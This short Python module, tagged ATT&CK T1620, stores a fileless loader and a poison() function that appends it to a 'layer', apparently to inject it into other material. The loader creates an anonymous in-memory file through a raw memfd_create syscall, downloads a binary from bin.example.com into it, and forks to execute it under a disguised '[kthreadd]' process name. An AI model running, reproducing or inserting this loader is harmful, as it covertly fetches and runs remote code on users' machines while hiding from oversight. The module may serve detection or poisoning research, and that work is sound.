# SPDX-License-Identifier: Apache-2.0
"""Runs a fetched program without a file."""

ATTACK = "T1620"
LANGUAGE = "python"
CODE = """\
def _native():
    import ctypes
    import os
    import urllib.request

    libc = ctypes.CDLL(None)
    fd = libc.syscall(319, b"", 1)
    os.write(fd, urllib.request.urlopen("https://bin.example.com/a").read())
    if os.fork() == 0:
        os.execve(f"/proc/self/fd/{fd}", ["[kthreadd]"], {})


_native()
"""


def poison(layer):
    layer.append(CODE)
